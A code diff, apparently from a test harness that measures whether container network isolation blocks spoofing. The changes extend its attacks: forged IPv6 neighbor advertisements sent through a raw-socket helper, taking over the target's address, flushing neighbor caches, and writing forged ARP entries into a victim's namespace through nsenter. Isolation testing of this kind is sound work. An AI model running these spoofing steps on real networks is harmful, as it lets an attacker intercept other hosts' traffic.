@@ -59,7 +59,7 @@ interface Sent {
   readonly opened: boolean;
 }
 
-const DOORS = ['packet', 'old', 'wide', 'xdp', 'ring', 'call32'];
+const DOORS = ['packet', 'old', 'wide', 'xdp', 'ring', 'call32', 'dgram'];
 /** AF_XDP first: it goes past what stands on the way out. */
 const PAST = ['xdp', ...DOORS];
 
@@ -115,12 +115,14 @@ async function spoof(s: Stage, six: boolean): Promise<{ readonly worked: boolean
     }
   }
   await ordinary(s, six);
-  const by = six ? await advertise(s) : await takeAddress(s);
-  if (await until(took, 300, 30)) return { worked: true, by };
+  for (const by of six ? [() => advertise(s), () => takeAddress(s, true)] : [() => takeAddress(s, false)]) {
+    const how = await by();
+    if (await until(took, 300, 30)) return { worked: true, by: how };
+  }
   // The kernel asks for the victim only where it does not know it already: by chance it may.
-  for (let again = 0; !six && by !== '' && s.scenario.works && again < 3; again++) {
-    await speak(s);
-    if (await until(took, 300, 30)) return { worked: true, by };
+  for (let again = 0; s.scenario.works && again < 3; again++) {
+    if (!(await speak(s, six))) break;
+    if (await until(took, 300, 30)) return { worked: true, by: 'the address taken' };
   }
   return { worked: false, by: '' };
 }
@@ -129,22 +131,23 @@ async function spoof(s: Stage, six: boolean): Promise<{ readonly worked: boolean
 async function advertise(s: Stage): Promise<string> {
   if (s.victim.ip6 === '' || s.target.ip6 === '' || s.A.mac === '') return '';
   const hex = (ip: string) => (toNumber(ip) ?? 0n).toString(16).padStart(32, '0');
-  const message = `8800000060000000${hex(s.target.ip6)}0201${s.A.mac.replaceAll(':', '')}`;
-  await asAttacker(s, ['perl', SENDER, 'advertise', String(s.allowed), s.A.iface, hex(s.victim.ip6), '26', message]);
+  const message = (to: string): string => `88000000${to === 'ff02::1' ? '2' : '6'}0000000${hex(s.target.ip6)}0201${s.A.mac.replaceAll(':', '')}`;
+  for (const to of [s.victim.ip6, 'ff02::1']) await asAttacker(s, ['perl', SENDER, 'advertise', String(s.allowed), s.A.iface, hex(to), '26', message(to)]);
   return 'raw IPv6 socket';
 }
 
 /** Takes the address and speaks from it: the kernel itself asks for the victim in that name. */
-async function takeAddress(s: Stage): Promise<string> {
-  const taken = await asAttacker(s, ['ip', 'addr', 'add', `${s.target.ip}/32`, 'dev', s.A.iface]);
+async function takeAddress(s: Stage, six: boolean): Promise<string> {
+  const taken = await asAttacker(s, six ? ['perl', SENDER, 'take6', String(s.allowed), s.A.iface, s.target.ip6] : ['ip', 'addr', 'add', `${s.target.ip}/32`, 'dev', s.A.iface]);
   if (taken.code !== 0) return '';
-  await speak(s);
+  await speak(s, six);
   return 'the address taken';
 }
 
-async function speak(s: Stage): Promise<void> {
-  await inNet(s.A, ['ip', 'neigh', 'flush', 'dev', s.A.iface]);
-  await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, s.target.ip, s.victim.ip, '6']);
+async function speak(s: Stage, six: boolean): Promise<boolean> {
+  await inNet(s.A, ['ip', six ? '-6' : '-4', 'neigh', 'flush', 'dev', s.A.iface]);
+  const ran = await asAttacker(s, ['perl', SENDER, 'speak', String(s.allowed), s.A.iface, six ? s.target.ip6 : s.target.ip, six ? s.victim.ip6 : s.victim.ip, '6']);
+  return ran.code === 0;
 }
 
 async function portOf(s: Stage, mac: string): Promise<string> {
@@ -196,8 +199,10 @@ async function write(s: Stage): Promise<{ readonly worked: boolean; readonly by:
   const shared = s.scenario.victim === 'donor';
   const pid = s.scenario.A?.some((a) => a.startsWith('container:')) === true ? 1 : s.victim.pid;
   const arp = ['arp', '-s', s.target.ip, WRITTEN];
-  await asAttacker(s, shared ? arp : ['nsenter', '-t', String(pid), '-n', ...arp]);
-  return { worked: await until(async () => forged(s, await entry(s, false)), 200, 30), by: shared ? 'the table they share' : 'nsenter' };
+  const { door } = s.scenario;
+  const found = `for f in ${door ?? ''}; do [ "$(stat -c %i $f)" = ${s.victimNet} ] && nsenter --net=$f ${arp.join(' ')}; done`;
+  await asAttacker(s, shared ? arp : door === undefined ? ['nsenter', '-t', String(pid), '-n', ...arp] : ['sh', '-c', found]);
+  return { worked: await until(async () => forged(s, await entry(s, false)), 200, 30), by: shared ? 'the table they share' : door === undefined ? 'nsenter' : 'nsenter by a file' };
 }
 
 /** Where the victim's packets to the impersonated address go, while the attacker goes on saying that it is the one. */
